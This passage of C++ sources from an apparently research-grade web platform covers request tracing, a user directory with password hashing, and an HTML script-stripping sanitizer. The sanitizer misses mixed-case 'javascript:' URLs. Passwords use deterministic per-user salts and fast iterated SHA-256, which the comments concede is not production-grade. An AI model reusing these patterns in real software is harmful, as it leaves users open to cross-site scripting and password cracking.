  void record(Trace trace);
  std::optional<Trace> find(const std::string& id) const;

  std::size_t size() const;        // traces currently held
  std::uint64_t recorded() const;  // lifetime total

 private:
  std::size_t capacity_;
  std::atomic<std::uint64_t> recorded_total_{0};
  // Dynamic per-slot locks: the analysis cannot name a runtime-indexed
  // capability, so ring_ has no W5_GUARDED_BY; record()/find() still take
  // the slot lock through util::MutexLock so clang sees the acquisition.
  mutable std::vector<util::Mutex> slot_mutexes_;  // one per ring slot
  std::vector<Trace> ring_;                       // pre-sized; empty id = unused
};

// The per-request context. Construction installs it as the thread-local
// current context (saving any enclosing one — nested dispatch, e.g. a
// federation pull hitting a second provider on the same thread, traces
// independently); destruction restores. With W5_NO_TELEMETRY the
// constructor is a no-op: no id, no header, no spans.
class RequestContext {
 public:
  static constexpr std::size_t kMaxSpans = 64;
  // Head sampling (the Dapper recipe): every request gets an id, the
  // header echo, the audit stamp, and a shallow ring entry (route,
  // status, duration) — detailed spans are recorded only for 1-in-N
  // requests, or always when the caller forwarded a valid X-W5-Trace id
  // (explicitly asking for this request to be traced).
  static constexpr std::uint64_t kSpanSampleEvery = 16;

  // inherited_id: a validated upstream trace id continues that trace
  // (federation peers forward X-W5-Trace); empty or invalid mints fresh.
  //
  // Trace timing is TSC-based (util::cycle_count + a once-calibrated
  // frequency), not Clock-based: the whole context costs two TSC reads
  // instead of virtual clock calls, and timestamps stay on the steady
  // epoch WallClock uses. Under SimClock providers, traces show real
  // elapsed time while audit shows sim time — traces are diagnostics,
  // so wall time is the more useful of the two.
  explicit RequestContext(std::string_view inherited_id = {});
  ~RequestContext();

  RequestContext(const RequestContext&) = delete;
  RequestContext& operator=(const RequestContext&) = delete;

  const std::string& id() const noexcept { return trace_.id; }
  bool spans_enabled() const noexcept { return spans_enabled_; }

  // `stable_route` must outlive the TraceBuffer (the gateway passes the
  // router's stored pattern text); the trace keeps a view, not a copy.
  void set_route(std::string_view stable_route);
  void set_status(int status);

  // ---- Deadline propagation (DESIGN.md §12) ------------------------------
  // The per-request time budget rides the same thread-local plumbing as
  // the trace id: the gateway stamps an absolute wall-clock deadline at
  // admission (provider default, tightened by a client X-W5-Deadline-Ms),
  // and anything downstream — app dispatch, store scans, nested
  // federation pulls — can ask "is it still worth doing this work?"
  // without a handle threaded through every signature. Compiled out with
  // W5_NO_TELEMETRY, like the rest of the context.
  void set_deadline(util::Micros absolute_micros);
  util::Micros deadline() const noexcept { return deadline_; }  // 0 = none

  // Thread's active request's deadline (0 when none / no context).
  static util::Micros current_deadline();
  // Remaining budget against the wall clock; INT64_MAX when no deadline.
  static util::Micros remaining_micros();
  static bool deadline_expired();
  // Span timestamps are raw util::cycle_count() values; finish() rescales
  // them to absolute micros using the request's two bracketing clock
  // reads, so the per-span cost is two TSC reads instead of two clock
  // syscalls.
  void add_span(std::string_view name, std::uint64_t start_cycles,
                std::uint64_t duration_cycles, std::string note);

  // Stamps the total duration and surrenders the trace for the buffer.
  Trace finish();

  static RequestContext* current() noexcept;
  // Trace id of the thread's active request, "" when none — safe to call
  // from anywhere on the request path (AuditLog uses this).
  static std::string current_id();

 private:
  Trace trace_;
  std::uint64_t start_cycles_ = 0;
  util::Micros deadline_ = 0;  // absolute wall micros; 0 = none
  RequestContext* previous_ = nullptr;
  bool installed_ = false;
  bool spans_enabled_ = false;
};

// RAII span against the thread's current RequestContext; no-op when there
// is none (direct component calls from tests, or telemetry compiled out).
class ScopedSpan {
 public:
  explicit ScopedSpan(std::string_view name);
  // The note is copied only when this request is span-sampled, so the
  // unsampled hot path never constructs a string for it.
  ScopedSpan(std::string_view name, const std::string& note);
  ~ScopedSpan();

  ScopedSpan(const ScopedSpan&) = delete;
  ScopedSpan& operator=(const ScopedSpan&) = delete;

  void set_note(std::string note) { note_ = std::move(note); }

 private:
  RequestContext* context_;
  std::string_view name_;  // always a string literal from the taxonomy
  std::string note_;
  std::uint64_t start_cycles_ = 0;
};

// Fresh process-unique trace id: 12 hex chars (48 mixed bits — short
// enough for SSO so id copies never allocate, mixed rather than
// sequential so ids are not enumerable through GET /trace/:id).
std::string next_trace_id();

// True when `id` is shaped like a trace id ([0-9a-zA-Z_-]{1,64}).
bool valid_trace_id(std::string_view id);

}  // namespace w5::platform
