// Request tracing: per-request trace ids, named spans, and a bounded ring
// of recent traces (DESIGN.md §11).
//
// The gateway opens a RequestContext per request; it installs itself as
// the thread's current context so any code on the request path can record
// a span without plumbing a handle through every signature (the same
// trick lets AuditLog stamp events with the live trace id, so audit
// entries and traces cross-reference). The id is echoed to the client in
// an X-W5-Trace response header and resolvable at GET /trace/:id.
//
// §3.5 inheritance: spans carry *names* (route patterns, "flow-check",
// "store.get"), tag/module names, and codes — never request or record
// bytes. A client-supplied X-W5-Trace value is accepted only when it
// looks like a trace id (short, [0-9a-zA-Z_-]), so the header cannot be
// used to smuggle arbitrary bytes into telemetry output.
#pragma once

#include <atomic>
#include <cstdint>
#include <mutex>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include "util/clock.h"
#include "util/thread_annotations.h"
#include "util/json.h"
#include "util/lock_ranks.h"

namespace w5::platform {

struct TraceSpan {
  // Span names come from the fixed taxonomy (DESIGN.md §16) — short
  // enough for SSO. A std::string (not a view) because remote spans
  // stitched from an X-W5-Spans header are parsed off the wire and own
  // their bytes; only span-sampled requests pay the copy.
  std::string name;
  util::Micros start = 0;     // absolute steady-clock micros
  util::Micros duration = 0;
  std::string note;           // codes / module ids / tag names only
  // Tree structure: ids are per-request ordinals assigned at span open;
  // parent 0 = direct child of the request root.
  std::uint32_t id = 0;
  std::uint32_t parent = 0;
  // Peer name for spans stitched from another provider ("" = local).
  // Names only, never request bytes (§3.5) — sanitized at decode.
  std::string remote;
};

struct Trace {
  std::string id;
  // Matched route *pattern*, not the raw target. A view, not a copy: the
  // gateway points it at the router's stored pattern text (stable for the
  // provider's lifetime), so recording a trace never allocates for the
  // route. Anything else passed to set_route must outlive the buffer.
  std::string_view route;
  int status = 0;
  util::Micros started = 0;
  util::Micros duration = 0;
  // True when detailed spans were recorded for this request (head-sampled
  // or explicitly requested by id) — the gate for X-W5-Spans export and
  // post-hoc reactor stage-span attachment.
  bool sampled = false;
  // Upstream span id from an inbound X-W5-Parent header, "" when this
  // request is a trace root. Digits only (validated at the perimeter).
  std::string parent_span;
  std::vector<TraceSpan> spans;

  util::Json to_json() const;
};

// Bounded ring of completed traces; the newest kDefaultCapacity requests
// are resolvable, older ones age out. One per Provider.
//
// Recording is on every request's tail, so there is no global lock:
// a writer claims its slot with one atomic fetch_add (FIFO eviction by
// construction) and takes only that slot's mutex for the swap. Writers
// on different slots never contend; /trace/:id lookups walk the slots
// one lock at a time.
class TraceBuffer {
 public:
  static constexpr std::size_t kDefaultCapacity = 256;

  explicit TraceBuffer(std::size_t capacity = kDefaultCapacity);

  TraceBuffer(const TraceBuffer&) = delete;
  TraceBuffer& operator=(const TraceBuffer&) = delete;

  void record(Trace trace);
  std::optional<Trace> find(const std::string& id) const;

  // /trace/:id needs to tell "never saw this id" (404) from "saw it, the
  // ring has since evicted it" (204); evicted ids are remembered in a
  // bounded secondary ring (ids only — 12 bytes each, no spans).
  enum class Lookup : std::uint8_t { kFound, kEvicted, kUnknown };
  Lookup lookup(const std::string& id, Trace* out) const;

  // Appends spans to an already-recorded trace in place (the reactor
  // attaches stage spans after the gateway has recorded the trace).
  // False when the id is no longer resident; overflow beyond the
  // per-trace span cap counts into dropped().
  bool append_spans(const std::string& id, std::vector<TraceSpan> spans);

  std::size_t size() const;        // traces currently held
  std::uint64_t recorded() const;  // lifetime total
  // Spans lost to ring slot exhaustion (sampled traces evicted with their
  // spans) or to the per-trace span cap — w5_trace_dropped_total.
  std::uint64_t dropped() const;

 private:
  static constexpr std::size_t kEvictedIds = 1024;
  static constexpr std::size_t kMaxSpansPerTrace = 128;

  std::size_t capacity_;
  std::atomic<std::uint64_t> recorded_total_{0};
  std::atomic<std::uint64_t> dropped_spans_{0};
  // Dynamic per-slot locks: the analysis cannot name a runtime-indexed
  // capability, so ring_ has no W5_GUARDED_BY; record()/find() still take
  // the slot lock through util::MutexLock so clang sees the acquisition.
  mutable std::vector<util::Mutex> slot_mutexes_;  // one per ring slot
  std::vector<Trace> ring_;                       // pre-sized; empty id = unused
  mutable util::Mutex evicted_mutex_{util::lockrank::kTraceEvicted,
                                      "TraceBuffer::evicted_mutex_"};
  std::vector<std::string> evicted_ids_ W5_GUARDED_BY(evicted_mutex_);
  std::size_t evicted_next_ W5_GUARDED_BY(evicted_mutex_) = 0;
};

// The per-request context. Construction installs it as the thread-local
// current context (saving any enclosing one — nested dispatch, e.g. a
// federation pull hitting a second provider on the same thread, traces
// independently); destruction restores. With W5_NO_TELEMETRY the
// constructor is a no-op: no id, no header, no spans.
class RequestContext {
 public:
  static constexpr std::size_t kMaxSpans = 64;
  // Head sampling (the Dapper recipe): every request gets an id, the
  // header echo, the audit stamp, and a shallow ring entry (route,
  // status, duration) — detailed spans are recorded only for 1-in-N
  // requests, or always when the caller forwarded a valid X-W5-Trace id
  // (explicitly asking for this request to be traced).
  static constexpr std::uint64_t kSpanSampleEvery = 16;

  // Sampling override carried by the X-W5-Sampled request header:
  // kInherit keeps the default policy (valid inherited id → spans on,
  // else 1-in-N); kOff suppresses spans even for an inherited id (an
  // upstream that decided not to sample propagates that decision); kOn
  // forces spans on.
  enum class Sampling : std::uint8_t { kInherit, kOn, kOff };

  // inherited_id: a validated upstream trace id continues that trace
  // (federation peers forward X-W5-Trace); empty or invalid mints fresh.
  //
  // Trace timing is TSC-based (util::cycle_count + a once-calibrated
  // frequency), not Clock-based: the whole context costs two TSC reads
  // instead of virtual clock calls, and timestamps stay on the steady
  // epoch WallClock uses. Under SimClock providers, traces show real
  // elapsed time while audit shows sim time — traces are diagnostics,
  // so wall time is the more useful of the two.
  explicit RequestContext(std::string_view inherited_id = {},
                          Sampling sampling = Sampling::kInherit);
  ~RequestContext();

  RequestContext(const RequestContext&) = delete;
  RequestContext& operator=(const RequestContext&) = delete;

  const std::string& id() const noexcept { return trace_.id; }
  bool spans_enabled() const noexcept { return spans_enabled_; }
  // True when the id was inherited from a validated inbound X-W5-Trace —
  // the caller is part of a larger trace, so the response should carry
  // the span dump (X-W5-Spans) back for stitching.
  bool inherited() const noexcept { return inherited_; }

  // ---- Span tree bookkeeping (DESIGN.md §16) -----------------------------
  // Span ids are per-request ordinals handed out at span *open* so a
  // parent's id exists before its children record (children destruct
  // first). 0 is the request root.
  std::uint32_t open_span() noexcept { return ++next_span_id_; }
  std::uint32_t current_parent() const noexcept { return current_parent_; }
  void set_current_parent(std::uint32_t id) noexcept {
    current_parent_ = id;
  }

  // Upstream span id from an inbound X-W5-Parent header (digits only).
  void set_parent_span(std::string parent);

  // `stable_route` must outlive the TraceBuffer (the gateway passes the
  // router's stored pattern text); the trace keeps a view, not a copy.
  void set_route(std::string_view stable_route);
  void set_status(int status);

  // ---- Deadline propagation (DESIGN.md §12) ------------------------------
  // The per-request time budget rides the same thread-local plumbing as
  // the trace id: the gateway stamps an absolute wall-clock deadline at
  // admission (provider default, tightened by a client X-W5-Deadline-Ms),
  // and anything downstream — app dispatch, store scans, nested
  // federation pulls — can ask "is it still worth doing this work?"
  // without a handle threaded through every signature. Compiled out with
  // W5_NO_TELEMETRY, like the rest of the context.
  void set_deadline(util::Micros absolute_micros);
  util::Micros deadline() const noexcept { return deadline_; }  // 0 = none

  // Thread's active request's deadline (0 when none / no context).
  static util::Micros current_deadline();
  // Remaining budget against the wall clock; INT64_MAX when no deadline.
  static util::Micros remaining_micros();
  static bool deadline_expired();
  // Span timestamps are raw util::cycle_count() values; finish() rescales
  // them to absolute micros using the request's two bracketing clock
  // reads, so the per-span cost is two TSC reads instead of two clock
  // syscalls.
  void add_span(std::string_view name, std::uint64_t start_cycles,
                std::uint64_t duration_cycles, std::string note,
                std::uint32_t span_id = 0, std::uint32_t parent = 0);

  // Grafts spans decoded from a peer's X-W5-Spans header under the
  // current parent span. `spans` carry start as *offset micros from the
  // remote request start*; finish() rebases them onto the absolute time
  // of `hop_start_cycles` (captured just before the outbound call).
  // Remote span ids are remapped into this request's ordinal space.
  void add_remote_spans(std::vector<TraceSpan> spans,
                        std::uint64_t hop_start_cycles);

  // Stamps the total duration and surrenders the trace for the buffer.
  Trace finish();

  static RequestContext* current() noexcept;
  // Trace id of the thread's active request, "" when none — safe to call
  // from anywhere on the request path (AuditLog uses this).
  static std::string current_id();

 private:
  // A remote batch holds already-rescaled micros (offsets from the remote
  // request start) plus the local TSC read bracketing the hop; finish()
  // rebases offsets onto the hop's absolute start.
  struct RemoteSpan {
    TraceSpan span;
    std::uint64_t hop_start_cycles;
  };

  Trace trace_;
  std::uint64_t start_cycles_ = 0;
  util::Micros deadline_ = 0;  // absolute wall micros; 0 = none
  RequestContext* previous_ = nullptr;
  bool installed_ = false;
  bool spans_enabled_ = false;
  bool inherited_ = false;
  std::uint32_t next_span_id_ = 0;
  std::uint32_t current_parent_ = 0;
  std::vector<RemoteSpan> remote_spans_;
};

// RAII span against the thread's current RequestContext; no-op when there
// is none (direct component calls from tests, or telemetry compiled out).
class ScopedSpan {
 public:
  explicit ScopedSpan(std::string_view name);
  // The note is copied only when this request is span-sampled, so the
  // unsampled hot path never constructs a string for it.
  ScopedSpan(std::string_view name, const std::string& note);
  ~ScopedSpan();

  ScopedSpan(const ScopedSpan&) = delete;
  ScopedSpan& operator=(const ScopedSpan&) = delete;

  void set_note(std::string note) { note_ = std::move(note); }

 private:
  RequestContext* context_;
  std::string_view name_;  // always a string literal from the taxonomy
  std::string note_;
  std::uint64_t start_cycles_ = 0;
  std::uint32_t span_id_ = 0;
  std::uint32_t parent_ = 0;
};

// Fresh process-unique trace id: 12 hex chars (48 mixed bits — short
// enough for SSO so id copies never allocate, mixed rather than
// sequential so ids are not enumerable through GET /trace/:id).
std::string next_trace_id();

// True when `id` is shaped like a trace id ([0-9a-zA-Z_-]{1,64}).
bool valid_trace_id(std::string_view id);

// ---- Cross-hop span wire format (DESIGN.md §16) ----------------------------
// X-W5-Spans response header: spans joined by '|', fields by ';':
//   id;parent;start_offset_micros;duration_micros;name;note;remote
// start offsets are relative to the remote request start. Name, note, and
// remote pass the telemetry charset filter ([0-9a-zA-Z._/=-], other bytes
// become '_') in both directions, so the header can never carry user data
// bytes (§3.5). Capped at 32 spans / ~4 KB to stay inside header limits.

// Renders a finished trace's spans for the response header ("" when the
// trace was not span-sampled).
std::string encode_spans_for_wire(const Trace& trace);

// Parses a peer's X-W5-Spans header into spans ready for
// RequestContext::add_remote_spans: start = offset micros, remote = the
// wire value when present else `peer`, everything sanitized. Malformed
// entries are skipped, never trusted.
std::vector<TraceSpan> decode_remote_spans(std::string_view wire,
                                           std::string_view peer);

// The telemetry charset filter used by the wire codec: copies `in`
// replacing every byte outside [0-9a-zA-Z._/=-] with '_', truncated to
// `max_len`. Exposed for tests and for other name-carrying surfaces.
std::string sanitize_telemetry_token(std::string_view in,
                                     std::size_t max_len = 80);

}  // namespace w5::platform
