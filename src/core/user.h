// User accounts and per-user protection state (DESIGN.md §3.2).
//
// On signup the provider mints three tags for the user:
//   sec(u) — secrecy: stamped on all of u's data; t+ is global (any app
//            may contaminate itself to read), t- is escrowed by the
//            perimeter and exercised only through u's declassifiers.
//   wp(u)  — write-protect integrity: u's records demand it; granted to
//            an app only when u delegates write privilege (§3.1).
//   rp(u)  — read-protect: NOT globally raisable; only explicitly
//            granted software can even see rp-labeled data (§3.1
//            "read protection").
#pragma once

#include <map>
#include <optional>
#include <shared_mutex>
#include <string>
#include <vector>

#include "difc/tag.h"
#include "util/json.h"
#include "os/kernel.h"
#include "util/mutation_log.h"
#include "util/result.h"
#include "util/thread_annotations.h"
#include "util/lock_ranks.h"

namespace w5::platform {

struct UserAccount {
  std::string id;            // login name, e.g. "bob"
  std::string display_name;
  difc::Tag secrecy_tag;     // sec(u)
  difc::Tag write_tag;       // wp(u)
  difc::Tag read_tag;        // rp(u)
  std::string password_salt;
  std::string password_hash;  // sha256(salt || password), iterated
};

// Thread-safe: shared_mutex over both maps (signup is rare, lookups are
// per-request). UserAccount* from find()/create() stays valid until
// remove(id) — the map is node-based and account fields are never
// mutated after creation. Lock order: user-directory → kernel (create
// mints tags while holding the directory lock).
class UserDirectory {
 public:
  explicit UserDirectory(os::Kernel& kernel) : kernel_(kernel) {}

  UserDirectory(const UserDirectory&) = delete;
  UserDirectory& operator=(const UserDirectory&) = delete;

  // Creates the account, mints its tags, and publishes the global
  // sec(u)+ capability. Fails on duplicate id or empty credentials.
  util::Result<const UserAccount*> create(const std::string& id,
                                          const std::string& display_name,
                                          const std::string& password);

  const UserAccount* find(const std::string& id) const;

  // Deletes the account; its tags remain registered (data labeled with
  // them may still exist transiently) but no longer resolve to an owner.
  bool remove(const std::string& id);

  // Constant-shape password check (hash always computed).
  bool verify_password(const std::string& id,
                       const std::string& password) const;

  // Reverse lookup: which user owns this secrecy/write/read tag?
  const UserAccount* owner_of_tag(difc::Tag tag) const;

  std::vector<std::string> user_ids() const;
  std::size_t size() const;

  // Persistence: accounts reference tag ids, so restore the TagRegistry
  // (kernel) first.
  util::Json to_json() const;
  util::Status load_json(const util::Json& snapshot);

  // ---- Durability (DESIGN.md §13) -------------------------------------------
  // create()/remove() publish user.create / user.remove ops. The three
  // tag.create ops the kernel mints during create() are logged first (by
  // the registry), so replay re-mints tags before the account references
  // them — same order as the original execution.
  void set_mutation_log(util::MutationLog* log) { mutation_log_ = log; }
  util::Status apply_wal(const util::Json& op);  // TRUSTED replay apply

 private:
  os::Kernel& kernel_;
  mutable util::SharedMutex mutex_{util::lockrank::kUserDirectory,
                                    "UserDirectory::mutex_"};
  // Ordered for determinism.
  std::map<std::string, UserAccount> users_ W5_GUARDED_BY(mutex_);
  std::map<difc::Tag, std::string> tag_owner_ W5_GUARDED_BY(mutex_);
  util::MutationLog* mutation_log_ = nullptr;  // set once at wiring time
};

// Password hashing: salted, iterated SHA-256. (A production provider
// would use a memory-hard KDF; the shape — salt, iteration, constant-time
// compare — is what matters here.)
std::string hash_password(const std::string& salt,
                          const std::string& password);

}  // namespace w5::platform
