#include "core/sanitizer.h"

#include <cctype>

#include "util/strings.h"

namespace w5::platform {

namespace {

bool iequal_at(std::string_view haystack, std::size_t pos,
               std::string_view needle) {
  if (pos + needle.size() > haystack.size()) return false;
  for (std::size_t i = 0; i < needle.size(); ++i) {
    if (std::tolower(static_cast<unsigned char>(haystack[pos + i])) !=
        std::tolower(static_cast<unsigned char>(needle[i])))
      return false;
  }
  return true;
}

std::size_t ifind(std::string_view haystack, std::string_view needle,
                  std::size_t from) {
  if (needle.empty() || haystack.size() < needle.size())
    return std::string_view::npos;
  for (std::size_t i = from; i + needle.size() <= haystack.size(); ++i)
    if (iequal_at(haystack, i, needle)) return i;
  return std::string_view::npos;
}

}  // namespace

std::string strip_javascript(std::string_view html, bool* modified) {
  bool changed = false;
  std::string out;
  out.reserve(html.size());

  // Pass 1: drop <script ...>...</script> blocks (and a dangling open tag).
  std::size_t pos = 0;
  while (pos < html.size()) {
    const std::size_t open = ifind(html, "<script", pos);
    if (open == std::string_view::npos) {
      out.append(html.substr(pos));
      break;
    }
    out.append(html.substr(pos, open - pos));
    changed = true;
    const std::size_t close = ifind(html, "</script>", open);
    if (close == std::string_view::npos) {
      pos = html.size();  // unterminated script: drop the rest
    } else {
      pos = close + 9;  // strlen("</script>")
    }
  }

  // Pass 2: neutralize javascript: URLs and inline on*= handlers inside
  // tags. Operates on the pass-1 output.
  std::string result;
  result.reserve(out.size());
  std::string_view s(out);
  pos = 0;
  while (pos < s.size()) {
    const char c = s[pos];
    if (c != '<') {
      result.push_back(c);
      ++pos;
      continue;
    }
    const std::size_t end = s.find('>', pos);
    if (end == std::string_view::npos) {
      result.append(s.substr(pos));
      break;
    }
    std::string tag(s.substr(pos, end - pos + 1));
    // Remove on*="..."/on*='...' attributes.
    std::string cleaned;
    cleaned.reserve(tag.size());
    for (std::size_t i = 0; i < tag.size();) {
      const bool at_attr_start =
          i > 0 && (tag[i - 1] == ' ' || tag[i - 1] == '\t');
      if (at_attr_start && i + 2 < tag.size() &&
          std::tolower(static_cast<unsigned char>(tag[i])) == 'o' &&
          std::tolower(static_cast<unsigned char>(tag[i + 1])) == 'n') {
        // Scan to the end of the attribute (name[=value]).
        std::size_t j = i;
        while (j < tag.size() && tag[j] != '=' && tag[j] != ' ' &&
               tag[j] != '>')
          ++j;
        if (j < tag.size() && tag[j] == '=') {
          ++j;
          if (j < tag.size() && (tag[j] == '"' || tag[j] == '\'')) {
            const char quote = tag[j];
            ++j;
            while (j < tag.size() && tag[j] != quote) ++j;
            if (j < tag.size()) ++j;  // closing quote
          } else {
            while (j < tag.size() && tag[j] != ' ' && tag[j] != '>') ++j;
          }
        }
        changed = true;
        i = j;
        continue;
      }
      cleaned.push_back(tag[i]);
      ++i;
    }
    // Neutralize javascript: URLs.
    const std::size_t js = ifind(cleaned, "javascript:", 0);
    if (js != std::string_view::npos) {
      cleaned = util::replace_all(cleaned, "javascript:", "blocked:");
      cleaned = util::replace_all(cleaned, "Javascript:", "blocked:");
      cleaned = util::replace_all(cleaned, "JAVASCRIPT:", "blocked:");
      changed = true;
    }
    result.append(cleaned);
    pos = end + 1;
  }

  if (modified != nullptr) *modified = changed;
  return result;
}

}  // namespace w5::platform
