#include "core/user.h"

#include <mutex>

#include "util/bytes.h"
#include "util/log.h"
#include "util/sha256.h"

namespace w5::platform {

std::string hash_password(const std::string& salt,
                          const std::string& password) {
  std::string digest = util::sha256_raw(salt + "\x00" + password);
  // Iterated to make brute force costlier; fixed small count keeps tests
  // fast while preserving the structure.
  for (int i = 0; i < 1000; ++i) digest = util::sha256_raw(digest);
  return util::hex_encode(digest);
}

namespace {

bool valid_user_id(const std::string& id) {
  if (id.empty() || id.size() > 64) return false;
  for (char c : id) {
    const bool ok = (c >= 'a' && c <= 'z') || (c >= '0' && c <= '9') ||
                    c == '-' || c == '_';
    if (!ok) return false;
  }
  return true;
}

}  // namespace

util::Result<const UserAccount*> UserDirectory::create(
    const std::string& id, const std::string& display_name,
    const std::string& password) {
  if (!valid_user_id(id)) {
    return util::make_error("user.invalid",
                            "user id must be [a-z0-9_-]{1,64}: '" + id + "'");
  }
  if (password.size() < 3)
    return util::make_error("user.invalid", "password too short");
  util::WriteLock lock(mutex_);
  if (users_.contains(id))
    return util::make_error("user.exists", "user '" + id + "' already exists");

  UserAccount account;
  account.id = id;
  account.display_name = display_name.empty() ? id : display_name;
  account.secrecy_tag =
      kernel_.create_tag(os::kKernelPid, "sec(" + id + ")",
                         difc::TagPurpose::kSecrecy).value();
  account.write_tag =
      kernel_.create_tag(os::kKernelPid, "wp(" + id + ")",
                         difc::TagPurpose::kIntegrity).value();
  account.read_tag =
      kernel_.create_tag(os::kKernelPid, "rp(" + id + ")",
                         difc::TagPurpose::kReadProtect).value();

  // Boilerplate policy plumbing: anyone may raise to sec(u) (and thus
  // read-and-be-contaminated); nobody may lower without a declassifier.
  // rp(u)+ is deliberately NOT global.
  kernel_.add_global_capability(difc::plus(account.secrecy_tag));

  // Deterministic salt derivation keeps tests reproducible while still
  // yielding a distinct salt per user.
  account.password_salt = util::sha256_hex("salt:" + id).substr(0, 16);
  account.password_hash = hash_password(account.password_salt, password);

  tag_owner_[account.secrecy_tag] = id;
  tag_owner_[account.write_tag] = id;
  tag_owner_[account.read_tag] = id;
  const auto [it, inserted] = users_.emplace(id, std::move(account));
  (void)inserted;
  std::uint64_t seq = 0;
  if (mutation_log_ != nullptr) {
    const UserAccount& placed = it->second;
    util::Json op;
    op["op"] = "user.create";
    op["id"] = placed.id;
    op["display_name"] = placed.display_name;
    op["sec"] = placed.secrecy_tag.id();
    op["wp"] = placed.write_tag.id();
    op["rp"] = placed.read_tag.id();
    op["salt"] = placed.password_salt;
    op["hash"] = placed.password_hash;
    seq = mutation_log_->log(op);
  }
  lock.unlock();
  if (mutation_log_ != nullptr) {
    if (auto durable = mutation_log_->wait_durable(seq); !durable.ok())
      util::log_warn("user directory: create not durable: ",
                     durable.error().detail);
  }
  return &it->second;
}

const UserAccount* UserDirectory::find(const std::string& id) const {
  const util::ReadLock lock(mutex_);
  const auto it = users_.find(id);
  return it == users_.end() ? nullptr : &it->second;
}

bool UserDirectory::remove(const std::string& id) {
  util::WriteLock lock(mutex_);
  const auto it = users_.find(id);
  if (it == users_.end()) return false;
  tag_owner_.erase(it->second.secrecy_tag);
  tag_owner_.erase(it->second.write_tag);
  tag_owner_.erase(it->second.read_tag);
  users_.erase(it);
  std::uint64_t seq = 0;
  if (mutation_log_ != nullptr) {
    util::Json op;
    op["op"] = "user.remove";
    op["id"] = id;
    seq = mutation_log_->log(op);
  }
  lock.unlock();
  if (mutation_log_ != nullptr) {
    if (auto durable = mutation_log_->wait_durable(seq); !durable.ok())
      util::log_warn("user directory: remove not durable: ",
                     durable.error().detail);
  }
  return true;
}

bool UserDirectory::verify_password(const std::string& id,
                                    const std::string& password) const {
  const UserAccount* account = find(id);
  // Hash regardless, so absent users cost the same as wrong passwords.
  const std::string computed = hash_password(
      account != nullptr ? account->password_salt : "missing", password);
  if (account == nullptr) return false;
  // Constant-time comparison.
  if (computed.size() != account->password_hash.size()) return false;
  unsigned char diff = 0;
  for (std::size_t i = 0; i < computed.size(); ++i)
    diff |= static_cast<unsigned char>(computed[i] ^
                                       account->password_hash[i]);
  return diff == 0;
}

const UserAccount* UserDirectory::owner_of_tag(difc::Tag tag) const {
  const util::ReadLock lock(mutex_);
  const auto tag_it = tag_owner_.find(tag);
  if (tag_it == tag_owner_.end()) return nullptr;
  const auto it = users_.find(tag_it->second);
  return it == users_.end() ? nullptr : &it->second;
}

util::Json UserDirectory::to_json() const {
  const util::ReadLock lock(mutex_);
  util::Json accounts = util::Json::array();
  for (const auto& [id, account] : users_) {
    util::Json entry;
    entry["id"] = account.id;
    entry["display_name"] = account.display_name;
    entry["sec"] = account.secrecy_tag.id();
    entry["wp"] = account.write_tag.id();
    entry["rp"] = account.read_tag.id();
    entry["salt"] = account.password_salt;
    entry["hash"] = account.password_hash;
    accounts.push_back(std::move(entry));
  }
  util::Json out;
  out["accounts"] = std::move(accounts);
  return out;
}

util::Status UserDirectory::load_json(const util::Json& snapshot) {
  if (!snapshot.at("accounts").is_array())
    return util::make_error("user.parse", "missing accounts array");
  std::map<std::string, UserAccount> users;
  std::map<difc::Tag, std::string> tag_owner;
  for (const auto& entry : snapshot.at("accounts").as_array()) {
    UserAccount account;
    account.id = entry.at("id").as_string();
    account.display_name = entry.at("display_name").as_string();
    account.secrecy_tag =
        difc::Tag(static_cast<std::uint64_t>(entry.at("sec").as_int()));
    account.write_tag =
        difc::Tag(static_cast<std::uint64_t>(entry.at("wp").as_int()));
    account.read_tag =
        difc::Tag(static_cast<std::uint64_t>(entry.at("rp").as_int()));
    account.password_salt = entry.at("salt").as_string();
    account.password_hash = entry.at("hash").as_string();
    if (account.id.empty() || !account.secrecy_tag.valid() ||
        !account.write_tag.valid() || !account.read_tag.valid() ||
        account.password_hash.empty()) {
      return util::make_error("user.parse", "malformed account entry");
    }
    if (users.contains(account.id))
      return util::make_error("user.parse", "duplicate account id");
    tag_owner[account.secrecy_tag] = account.id;
    tag_owner[account.write_tag] = account.id;
    tag_owner[account.read_tag] = account.id;
    // Re-publish the global raise capability for each restored user.
    kernel_.add_global_capability(difc::plus(account.secrecy_tag));
    users.emplace(account.id, std::move(account));
  }
  util::WriteLock lock(mutex_);
  users_ = std::move(users);
  tag_owner_ = std::move(tag_owner);
  return util::ok_status();
}

util::Status UserDirectory::apply_wal(const util::Json& op) {
  const std::string& kind = op.at("op").as_string();
  if (kind == "user.create") {
    UserAccount account;
    account.id = op.at("id").as_string();
    account.display_name = op.at("display_name").as_string();
    account.secrecy_tag =
        difc::Tag(static_cast<std::uint64_t>(op.at("sec").as_int()));
    account.write_tag =
        difc::Tag(static_cast<std::uint64_t>(op.at("wp").as_int()));
    account.read_tag =
        difc::Tag(static_cast<std::uint64_t>(op.at("rp").as_int()));
    account.password_salt = op.at("salt").as_string();
    account.password_hash = op.at("hash").as_string();
    if (account.id.empty() || !account.secrecy_tag.valid() ||
        !account.write_tag.valid() || !account.read_tag.valid()) {
      return util::make_error("wal.replay", "malformed user.create op");
    }
    // Same boilerplate the original signup published.
    kernel_.add_global_capability(difc::plus(account.secrecy_tag));
    util::WriteLock lock(mutex_);
    tag_owner_[account.secrecy_tag] = account.id;
    tag_owner_[account.write_tag] = account.id;
    tag_owner_[account.read_tag] = account.id;
    users_.insert_or_assign(account.id, std::move(account));
    return util::ok_status();
  }
  if (kind == "user.remove") {
    util::WriteLock lock(mutex_);
    const auto it = users_.find(op.at("id").as_string());
    if (it == users_.end()) return util::ok_status();  // idempotent
    tag_owner_.erase(it->second.secrecy_tag);
    tag_owner_.erase(it->second.write_tag);
    tag_owner_.erase(it->second.read_tag);
    users_.erase(it);
    return util::ok_status();
  }
  return util::make_error("wal.replay", "unknown user op '" + kind + "'");
}

std::vector<std::string> UserDirectory::user_ids() const {
  const util::ReadLock lock(mutex_);
  std::vector<std::string> out;
  out.reserve(users_.size());
  for (const auto& [id, account] : users_) out.push_back(id);
  return out;
}

std::size_t UserDirectory::size() const {
  const util::ReadLock lock(mutex_);
  return users_.size();
}

}  // namespace w5::platform
