// The process-wide lock-rank registry (DESIGN.md §19).
//
// Every util::Mutex / util::SharedMutex in src/ is constructed with one
// of these ranks. The rule is the classic partial-order discipline: a
// thread may only block on a lock whose rank is >= the highest rank it
// already holds. Equal ranks are reserved for sibling instances of the
// same class (the 16 store shards, the trace ring's slot mutexes) whose
